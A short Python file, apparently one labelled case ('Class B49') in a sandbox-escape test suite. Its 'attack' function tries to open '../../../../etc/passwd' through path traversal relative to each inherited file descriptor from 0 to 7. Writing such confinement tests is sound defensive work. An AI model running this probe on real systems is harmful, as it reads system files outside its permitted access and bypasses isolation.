"""Opens files relative to descriptors that it has. Class B49."""

import os


def attack(bait):
    found = []
    for number in range(8):
        try:
            found.append(os.open("../../../../etc/passwd", os.O_RDONLY, dir_fd=number))
        except OSError:
            pass
    return found
